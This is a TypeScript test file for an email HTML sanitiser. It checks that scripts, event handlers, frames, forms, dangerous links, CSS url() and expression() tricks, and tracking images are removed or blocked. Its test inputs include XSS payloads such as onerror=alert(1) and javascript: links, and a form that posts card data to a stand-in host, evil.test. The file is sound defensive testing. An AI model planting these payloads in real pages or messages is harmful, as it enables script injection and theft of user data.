// The frame document: sanitised again, images rewritten or blocked, links made to open elsewhere.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { cleanInlineStyle, presentMessageHtml, type MessageHtmlInput } from "./message-html.present.ts";

function render(html: string | null, patch: Partial<MessageHtmlInput> = {}) {
  return presentMessageHtml({
    html,
    text: "plain <text> & more",
    inlineImages: [
      { id: "att-png", contentId: "logo@mail.example", contentType: "image/png" },
      { id: "att-svg", contentId: "vector@mail.example", contentType: "image/svg+xml" },
    ],
    allowRemoteImages: false,
    inlineImageUrl: (id) => `/api/attachments/${id}?inline=1&sig=1`,
    proxiedImageUrl: (url) => `/api/image-proxy?u=${encodeURIComponent(url)}&s=sig`,
    ...patch,
  });
}

const bodyOf = (doc: { html: string }) => /<body>([\s\S]*)<\/body>/.exec(doc.html)![1]!;

describe("message HTML document", () => {
  it("is a complete document with a charset and no referrer", () => {
    const doc = render("<p>Hello</p>");
    assert.match(doc.html, /^<!doctype html><html><head><meta charset="utf-8"><meta name="referrer" content="no-referrer">/);
    assert.equal(bodyOf(doc), "<p>Hello</p>");
  });

  it("drops scripts, event handlers, frames, objects, forms, base and meta tags", () => {
    const body = bodyOf(render([
      "<script>parent.x=1</script>", "<img src=x onerror=alert(1)>", "<p onclick=alert(2) onmouseover=alert(3)>p</p>",
      "<iframe src=https://evil.test/></iframe>", "<object data=https://evil.test/x.swf></object>", "<embed src=x>",
      "<form action=https://evil.test/steal><input name=card><button>Pay</button></form>",
      "<base href=https://evil.test/>", "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
      "<link rel=stylesheet href=https://evil.test/x.css>", "<style>@import url(https://evil.test/x.css)</style>",
      "<svg><script>alert(4)</script><use href='https://evil.test/#x'/></svg>", "<math><mi xlink:href=javascript:alert(5)>m</mi></math>",
    ].join("")));
    for (const bad of [/<script/i, /onerror/i, /onclick/i, /onmouseover/i, /<iframe/i, /<object/i, /<embed/i, /<form/i, /<input/i,
      /<button/i, /<base/i, /<meta/i, /<link/i, /<style/i, /@import/i, /<svg/i, /<use/i, /<math/i, /javascript:/i, /evil\.test/]) {
      assert.doesNotMatch(body, bad, `${bad} must not survive`);
    }
    assert.match(body, /<p>p<\/p>/, "harmless content stays");
  });

  it("keeps only absolute web, mail and phone links, opened outside the frame without a referrer", () => {
    const body = bodyOf(render([
      '<a href="javascript:alert(1)">a</a>', '<a href=" JaVaScRiPt:alert(1)">b</a>', '<a href="data:text/html,<script>x</script>">c</a>',
      '<a href="/api/session">d</a>', '<a href="//evil.test/">e</a>', '<a href="https://okpay.example/help" target="_self">f</a>',
      '<a href="mailto:help@okpay.example">g</a>',
    ].join("")));
    assert.doesNotMatch(body, /javascript|data:|\/api\/session|\/\/evil/i);
    assert.match(body, /<a href="https:\/\/okpay\.example\/help" target="_blank" rel="noopener noreferrer">f<\/a>/);
    assert.match(body, /<a href="mailto:help@okpay\.example" target="_blank" rel="noopener noreferrer">g<\/a>/);
    assert.equal((body.match(/target="_blank" rel="noopener noreferrer"/g) ?? []).length, 7, "every link, kept href or not");
  });

  it("blocks remote images behind a placeholder unless the agent allows them, then sends them through the proxy", () => {
    const html = '<p><img src="https://tracker.test/open.gif?id=1" alt="Our logo" width="20"><img src="http://cdn.test/banner.png"></p>';
    const blocked = render(html);
    assert.doesNotMatch(blocked.html, /tracker\.test|cdn\.test/);
    assert.match(bodyOf(blocked), /<span class="pd-blocked-image" title="Remote image blocked">\[image: Our logo\]<\/span>/);
    assert.equal(blocked.remoteImages, 2);
    assert.equal(blocked.blockedImages, 2);

    const allowed = render(html, { allowRemoteImages: true });
    const srcs = [...bodyOf(allowed).matchAll(/<img [^>]*src="([^"]*)"/g)].map((m) => m[1]);
    assert.deepEqual(srcs, [
      `/api/image-proxy?u=${encodeURIComponent("https://tracker.test/open.gif?id=1").replace(/&/g, "&amp;")}&amp;s=sig`,
      `/api/image-proxy?u=${encodeURIComponent("http://cdn.test/banner.png")}&amp;s=sig`,
    ]);
    assert.equal(allowed.blockedImages, 0);
    assert.match(bodyOf(allowed), /width="20"/);
  });

  it("shows cid: images from the message's own image attachments and nothing else", () => {
    const body = bodyOf(render('<img src="cid:logo@mail.example" alt="logo"><img src="CID:%3Clogo@mail.example%3E"><img src="cid:vector@mail.example"><img src="cid:missing@x"><img src="/api/attachments/other?inline=1"><img src="data:image/png;base64,AAAA"><img src="//cdn.test/x.png">'));
    const srcs = [...body.matchAll(/<img [^>]*src="([^"]*)"/g)].map((m) => m[1]);
    assert.deepEqual(srcs, ["/api/attachments/att-png?inline=1&amp;sig=1", "/api/attachments/att-png?inline=1&amp;sig=1"]);
    assert.equal((body.match(/pd-blocked-image/g) ?? []).length, 5, "SVG, unknown cid, our own URLs, data: and protocol-relative are not shown");
    assert.doesNotMatch(body, /data:|cdn\.test|attachments\/other/);
  });

  it("keeps inline styles but not what could load or run something", () => {
    const body = bodyOf(render([
      '<p style="color: red; background: url(http://127.0.0.1:9/x.png); font-weight: bold">a</p>',
      '<p style="background-image: u&#114;l(http://evil.test/y)">b</p>',
      '<p style="width: expression(alert(1))">c</p>', '<p style="behavior: url(x.htc); -moz-binding: url(x.xml#y)">d</p>',
      '<p style="background: \\75rl(http://evil.test/z)">e</p>', '<p style="background:image-set(&quot;http://evil.test/w&quot; 1x)">f</p>',
    ].join("")));
    assert.match(body, /<p style="color: ?red; ?font-weight: ?bold;?">a<\/p>/);
    assert.match(body, /<p>b<\/p><p>c<\/p><p>d<\/p><p>e<\/p><p>f<\/p>/);
    assert.doesNotMatch(body, /url|expression|evil|127\.0\.0\.1|binding|behavior/i);
  });

  it("cuts markup nested deeper than a browser would keep", () => {
    const depth = 5000;
    const body = bodyOf(render(`${"<div>".repeat(depth)}bottom${"</div>".repeat(depth)}`));
    const opened = (body.match(/<div>/g) ?? []).length;
    assert.ok(opened > 0 && opened <= 200, `kept ${opened} levels`);
    assert.equal(opened, (body.match(/<\/div>/g) ?? []).length, "balanced");
  });

  it("shows a text-only message as escaped, wrapped text", () => {
    assert.equal(bodyOf(render(null)), '<pre class="pd-text">plain &lt;text&gt; &amp; more</pre>');
  });

  it("filters declarations of a style attribute one by one", () => {
    assert.equal(cleanInlineStyle("color:red;;margin:0 auto"), "color:red; margin:0 auto");
    assert.equal(cleanInlineStyle("background:url(x)"), null);
    assert.equal(cleanInlineStyle("color:red/* */;x"), null);
  });
});
